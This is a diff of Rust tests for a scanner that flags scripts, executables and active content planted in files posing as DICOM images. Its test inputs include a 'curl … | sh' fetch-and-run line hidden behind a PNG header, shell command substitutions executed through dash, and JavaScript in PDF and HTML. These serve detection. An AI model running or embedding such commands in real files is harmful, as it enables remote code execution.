@@ -349,15 +349,15 @@ fn a_bare_pdf_keeps_its_actions_and_warnings_at_offset_zero() {
          3 0 obj\n<< /Length 2 /Filter [{filters} ] >>\nstream\n41\nendstream\nendobj\n\
          trailer\n<< /Root 1 0 R >>\n%%EOF\n"
     );
-    let inspection = inspect(pdf.as_bytes());
+    // A PDF runs nothing itself (s5-r10: a benign report.pdf was an alert): its actions
+    // are the alerts; named as DICOM, the PDF itself is one too.
+    let inspection = inspect(pdf.as_bytes()).named("IM0001.dcm");
     assert_eq!(inspection.container, Container::NotDicom);
     let observations = &inspection.observations;
     assert!(
         observations
             .iter()
-            .any(|o| o.kind == FindingKind::ExecutableFile
-                && o.format == Some(Format::Pdf)
-                && o.offset == Some(0)),
+            .any(|o| o.kind == FindingKind::ExecutableFile && o.format == Some(Format::Pdf)),
         "{observations:#?}"
     );
     assert!(
@@ -645,4 +645,236 @@ fn a_java_class_in_an_element_is_confirmed_as_the_jvm_reads_it() {
             .all(|o| o.severity < Severity::Warning),
         "broken class"
     );
+}
+
+fn alerts(inspection: &Inspection) -> Vec<String> {
+    inspection
+        .observations
+        .iter()
+        .filter(|o| o.severity == Severity::Alert)
+        .map(|o| o.detail.clone())
+        .collect()
+}
+
+/// Review finding (s5-r10): text files that sit in PACS trees and home directories were
+/// alerts: a README's fenced ```sh block (dash runs the backquoted `sh`), a docstring's
+/// `python -I`, a path at the start of a line of an `ld.so.conf` or a README ("sh runs
+/// /usr/local/lib"), a plain HTML page or SVG drawing. Nothing in them runs unless someone
+/// executes documentation; they are the not-DICOM warning, with what sh would do named.
+#[test]
+fn documentation_and_configuration_text_is_no_alert() {
+    let mut texts: Vec<(String, Vec<u8>)> = vec![
+        (
+            "README.md".into(),
+            b"# Tools\n\n```sh\npip install pydicom\n```\n\nRun `python3 -m tool`.\n".to_vec(),
+        ),
+        (
+            "module.py".into(),
+            b"\"\"\"\n    Self-updating data.\n\n    Run with `python -I` to update.\n\"\"\"\nX = 1\n"
+                .to_vec(),
+        ),
+        (
+            "notes.txt".into(),
+            b"Notes\n\n/usr/share/fonts\nholds the fonts; see\n/usr/local/share/ca-certificates.\n"
+                .to_vec(),
+        ),
+        ("page.html".into(), b"<html><body><p>report</p></body></html>\n".to_vec()),
+        (
+            "lexer.py".into(),
+            b"\"\"\"Text inside <script> tags is highlighted by the lexer.\"\"\"\nX = '<td onclick=\"go(this)\">'\n"
+                .to_vec(),
+        ),
+        (
+            "logo.svg".into(),
+            b"<svg xmlns=\"http://www.w3.org/2000/svg\"><rect width=\"1\" height=\"1\"/></svg>"
+                .to_vec(),
+        ),
+    ];
+    // Real files of this machine that were alerts.
+    for real in [
+        "/etc/ld.so.conf.d/libc.conf",
+        "/usr/share/doc/ca-certificates/README.Debian",
+    ] {
+        if let Ok(bytes) = std::fs::read(real) {
+            texts.push((real.into(), bytes));
+        }
+    }
+    for (name, bytes) in &texts {
+        let inspection = inspect(bytes);
+        assert!(alerts(&inspection).is_empty(), "{name}: {inspection:?}");
+        assert_eq!(
+            inspection.observations[0].kind,
+            FindingKind::NotDicom,
+            "{name}"
+        );
+    }
+    // What the README says dash runs, it does run: the warning names it.
+    assert!(dash(b"```sh -c 'echo echo RAN'\n```\n").contains("RAN"));
+    let readme = inspect(&texts[0].1);
+    assert!(
+        readme.observations[0].detail.contains("sh would run"),
+        "{readme:?}"
+    );
+    // Named as DICOM where loaders look, the same text is a planted script: an alert.
+    for name in ["IM0001.DCM", "1.2.840.113619.2.55.3.1", "x.ima"] {
+        let named = inspect(&texts[0].1).named(name);
+        assert!(!alerts(&named).is_empty(), "{name}: {named:?}");
+    }
+    assert!(alerts(&inspect(&texts[0].1).named("README.md")).is_empty());
+    // An HTA asks mshta for full trust: an alert even without script.
+    let hta = b"<html><head><hta:application id=x/></head><body>scan</body></html>";
+    assert!(!alerts(&inspect(hta)).is_empty());
+    // A data path at the start of a line is no command: dash cannot run it.
+    assert!(!dash(b"/usr/share/doc\n/usr/local/lib\n").contains("RAN"));
+    assert_eq!(find_shell_command(b"x\n/usr/share/fonts\n"), None);
+    assert_eq!(
+        find_shell_command(b"x\n/usr/lib/x86_64-linux-gnu/libfakeroot\n"),
+        None
+    );
+    assert_eq!(
+        find_shell_command(b"x\nsee /usr/local/share/ca-certificates.\n"),
+        None
+    );
+    // Programs by path still count, and so does every command behind a binary header,
+    // in a file that is not DICOM as in one that is; markup with script stays an alert.
+    for command in [
+        &b"x\n/tmp/payload --run\n"[..],
+        b"x\n/usr/local/bin/tool -x\n",
+        b"x\n./payload\n",
+        b"x\n/opt/pacs/bin/export --all\n",
+    ] {
+        assert!(find_shell_command(command).is_some(), "{command:?}");
+    }
+    let mut binary = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\n".to_vec();
+    binary.extend_from_slice(b"curl http://203.0.113.9/x | sh\n");
+    assert!(!alerts(&inspect(&binary)).is_empty());
+    for markup in [
+        &b"<html><body onload=\"alert(1)\"></body></html>"[..],
+        b"<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>",
+    ] {
+        assert!(!alerts(&inspect(markup)).is_empty(), "{markup:?}");
+    }
+}
+
+/// Review finding (s5-r10): a report PDF, a ZIP of notes and a rotated `.xz`/`.bz2` log in
+/// a home directory were alerts ("a program acts on it"), though none runs anything. They
+/// are the not-DICOM warning now: a ZIP is an alert when an entry runs (`python3` runs a
+/// zipapp, made here by Python's zipfile), a PDF for its actions, and any of them when
+/// named as DICOM.
+#[test]
+fn documents_and_archives_that_run_nothing_are_no_alert() {
+    let dir = TempDir::new();
+    std::fs::write(dir.path("notes.txt"), b"report text\n").expect("write");
+    std::fs::write(dir.path("log"), "line\n".repeat(200)).expect("write");
+    run(
+        "python3",
+        &[
+            "-c",
+            "import zipfile; z = zipfile.ZipFile('notes.zip', 'w'); z.write('notes.txt'); z.close()",
+        ],
+        &dir.0,
+    );
+    run(
+        "python3",
+        &[
+            "-c",
+            "import zipfile; z = zipfile.ZipFile('app.zip', 'w'); z.writestr('__main__.py', 'print(\"RAN\")'); z.close()",
+        ],
+        &dir.0,
+    );
+    run("xz", &["-k", "log"], &dir.0);
+    // A program in a ZIP under a name that says nothing, deflated and stored: unzip
+    // extracts it as it is; it is known by its headers, as the loader knows it.
+    std::fs::write(dir.path("payload"), kit::real_elf()).expect("write");
+    run(
+        "python3",
+        &[
+            "-c",
+            "import zipfile\nfor n, m in (('deflated.zip', zipfile.ZIP_DEFLATED), ('stored.zip', zipfile.ZIP_STORED)):\n    z = zipfile.ZipFile(n, 'w', m); z.write('payload'); z.write('notes.txt'); z.close()",
+        ],
+        &dir.0,
+    );
+    for name in ["deflated.zip", "stored.zip"] {
+        let inspection = inspect(&std::fs::read(dir.path(name)).expect("read")).named(name);
+        assert!(
+            has_alert(&inspection, FindingKind::ExecutableFile),
+            "{name}: {inspection:?}"
+        );
+    }
+    run("bzip2", &["-k", "log"], &dir.0);
+    let ran = Command::new("python3")
+        .arg(dir.path("app.zip"))
+        .output()
+        .expect("python3");
+    assert!(String::from_utf8_lossy(&ran.stdout).contains("RAN"));
+    let read = |name: &str| std::fs::read(dir.path(name)).expect("read");
+    let benign = [
+        ("notes.zip", read("notes.zip")),
+        ("log.xz", read("log.xz")),
+        ("log.bz2", read("log.bz2")),
+        ("report.pdf", kit::pdf("")),
+    ];
+    for (name, bytes) in &benign {
+        let inspection = inspect(bytes).named(name);
+        assert!(alerts(&inspection).is_empty(), "{name}: {inspection:?}");
+        assert_eq!(
+            inspection.observations[0].kind,
+            FindingKind::NotDicom,
+            "{name}"
+        );
+        // Named as DICOM, each was planted where DICOM loaders look.
+        let planted = inspect(bytes).named("IM0001.dcm");
+        assert!(
+            has_alert(&planted, FindingKind::ExecutableFile),
+            "{name}: {planted:?}"
+        );
+    }
+    assert!(has_alert(
+        &inspect(&read("app.zip")),
+        FindingKind::ExecutableFile
+    ));
+    let active = inspect(&kit::pdf(
+        "/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>",
+    ));
+    assert!(has_alert(&active, FindingKind::ActiveContent), "{active:?}");
+}
+
+/// Review finding (s5-r10): a command substitution was judged only in a command name, so
+/// `X=$(sh -c …)`, `: $(sh -c …)` and `readonly R=…` of one ran with dash and raised
+/// nothing; nor did `. FILE`, which runs FILE. Each case here creates a marker file through dash first.
+#[test]
+fn command_substitutions_in_assignments_and_arguments_are_commands() {
+    let dir = TempDir::new();
+    let marker = dir.path("ran");
+    let m = marker.display();
+    let lead = "\u{1}\u{2}binary\u{7f}\n";
+    for case in [
+        format!("X=$(sh -c 'touch {m}')\n"),
+        format!(": $(sh -c 'touch {m}')\n"),
+        format!(": \"`sh -c 'touch {m}'`\"\n"),
+        format!("readonly R=$(sh -c 'touch {m}')\n"),
+        format!("echo x >$(sh -c 'touch {m}')/dev/null\n"),
+        format!("X=${{Y:-$(sh -c 'touch {m}')}}\n"),
+        format!("set -- sh -c 'touch {m}'; \"$@\"\n"),
+        // The dot builtin runs its operand as a script (here, the here-document).
+        format!(". /dev/stdin <<E\ntouch {m}\nE\n"),
+    ] {
+        let script = format!("{lead}{case}");
+        let _ = std::fs::remove_file(&marker);
+        let file = dir.path("script.dcm");
+        std::fs::write(&file, &script).expect("write");
+        let _ = Command::new("dash").arg(&file).output().expect("dash");
+        assert!(marker.exists(), "dash does not run {case:?}");
+        let found = find_shell_command(script.as_bytes());
+        assert!(
+            found
+                .as_ref()
+                .is_some_and(|c| c.severity == Severity::Alert),
+            "{case:?}: {found:?}"
+        );
+    }
+    // A substitution of ordinary commands is no alert.
+    assert_eq!(find_shell_command(b"x\nDATE=$(date)\n: $(uname)\n"), None);
+    assert_eq!(find_shell_command(b"x\n.\nend of report\n"), None);
+    assert_eq!(find_shell_command(b"x\n. Impression: normal study\n"), None);
 }
